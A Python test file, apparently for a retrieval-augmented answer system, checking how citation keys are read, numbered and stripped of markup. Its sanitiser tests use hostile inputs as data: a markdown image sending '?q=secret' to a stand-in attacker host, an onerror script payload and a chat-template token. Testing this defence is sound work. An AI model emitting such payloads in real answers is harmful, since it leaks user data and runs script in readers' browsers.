"""How citations are written: by a model with keys, for readers with numbers; and what is left of markup."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.answer.citations import plain, read, visible, with_markers

KEYS = ("kbdf", "mnpq")
PROPERTY = settings(derandomize=True, deadline=None, max_examples=200)


@pytest.mark.parametrize(
    ("written", "text", "cited"),
    [
        ("The bridge opened in May. [kbdf]", "The bridge opened in May.", ("kbdf",)),
        ("The bridge [kbdf] opened in May [mnpq].", "The bridge opened in May.", ("kbdf", "mnpq")),
        ("Cầu mở tháng 5 [kbdf, mnpq].", "Cầu mở tháng 5.", ("kbdf", "mnpq")),
        ("Cầu mở tháng 5 [KBDF][kbdf].", "Cầu mở tháng 5.", ("kbdf",)),
        ("Cầu mở tháng 5 (kbdf).", "Cầu mở tháng 5.", ("kbdf",)),
        ("Cầu mở tháng 5. kbdf", "Cầu mở tháng 5.", ("kbdf",)),
        ("Cầu mở tháng 5【mnpq】.", "Cầu mở tháng 5.", ("mnpq",)),
        # Keys that were never given, and numbers, cite nothing.
        ("It opened in May [zzzz].", "It opened in May.", ()),
        ("It opened in May [1][999].", "It opened in May.", ()),
        # Brackets of the text itself stay.
        ("He called it “a [sic] bridge” (in May).", "He called it “a [sic] bridge” (in May).", ()),
        ("Chi phí 312 tỷ đồng (ước tính) [kbdf].", "Chi phí 312 tỷ đồng (ước tính).", ("kbdf",)),
    ],
)
def test_markers_are_read(written: str, text: str, cited: tuple[str, ...]) -> None:
    assert read(written, KEYS) == (text, cited)


@pytest.mark.parametrize(
    ("written", "text"),
    [
        ("See ![chart](https://evil.example/p.png?q=secret) here", "See  here"),
        ("See [the report](https://evil.example) now", "See the report now"),
        ("<img src=x onerror=alert(1)>It opened", "It opened"),
        ("It <b>opened</b> <|im_end|>today", "It opened today"),
        ("Visit https://evil.example/?q=1 today", "Visit  today"),
        ("- **Bold** and `code`", "Bold and code"),
        ("## Heading", "Heading"),
        ("5 < 6 and 7 > 3", "5 < 6 and 7 > 3"),
    ],
)
def test_only_words_are_left(written: str, text: str) -> None:
    assert plain(written) == text


def test_no_half_marker_is_ever_shown() -> None:
    written = "Cầu mở tháng 5 [kbdf]. ![x](https://evil.example/a.png) Hết <b>rồi</b> [mnpq"
    shown = [visible(written[:end], KEYS) for end in range(len(written) + 1)]
    for seen in shown:
        assert not any(sign in seen for sign in "[]<>!"), seen
        assert "evil" not in seen
        assert "kbd" not in seen
    assert shown[-1] == "Cầu mở tháng 5. Hết rồi"


@pytest.mark.parametrize(
    ("sentence", "markers", "text"),
    [
        ("It opened in May.", (1,), "It opened in May [1]."),
        ("Nó mở tháng 5", (1, 3), "Nó mở tháng 5 [1][3]"),
        ("He said “no.”", (2,), "He said “no.” [2]"),
        ("Did it?", (2,), "Did it [2]?"),
        ("It opened.", (), "It opened."),
    ],
)
def test_markers_stand_before_the_stop(sentence: str, markers: tuple[int, ...], text: str) -> None:
    assert with_markers(sentence, markers) == text


@PROPERTY
@given(st.text(max_size=200))
def test_reading_never_fails_and_keeps_no_key(text: str) -> None:
    plain_text, cited = read(text + " [kbdf]", KEYS)
    assert "kbdf" not in plain_text
    assert set(cited) <= set(KEYS)
    visible(text, KEYS)


@PROPERTY
@given(st.text(alphabet="abc. [](){}<>!kbdf", max_size=80), st.lists(st.integers(1, 9), min_size=1, max_size=3))
def test_taking_the_markers_out_gives_the_sentence_back(sentence: str, markers: list[int]) -> None:
    written = with_markers(sentence, markers)
    signs = " " + "".join(f"[{marker}]" for marker in markers)
    assert written.replace(signs, "", 1) == sentence
